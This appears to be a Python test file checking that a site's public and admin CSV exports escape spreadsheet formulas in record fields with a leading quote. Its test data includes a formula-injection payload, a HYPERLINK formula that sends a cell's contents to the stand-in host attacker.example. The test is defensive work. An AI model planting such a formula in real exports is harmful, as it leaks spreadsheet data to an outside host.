"""Exports opened in a spreadsheet: a record's text never runs there as a formula."""

import csv
import io

from cooperation import records

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'


def read_csv(response):
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_a_formula_in_a_record_reaches_a_spreadsheet_as_text(client, admin_client, world):
    world.published.title = FORMULA
    world.published.summary = "-2+3"
    records.save(world.published)

    header, *rows = read_csv(client.get("/events/export.csv"))
    row = dict(zip(header, rows[0], strict=True))
    assert row["title"] == "'" + FORMULA
    assert row["summary"] == "'-2+3"
    assert row["start_date"] == "2023-12-15"  # an ordinary value is left as it is

    response = admin_client.post(
        "/admin/cooperation/delegation/",
        {"action": "export_csv", "index": "0", "_selected_action": [world.published.pk]},
    )
    cells = [cell for row in read_csv(response)[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
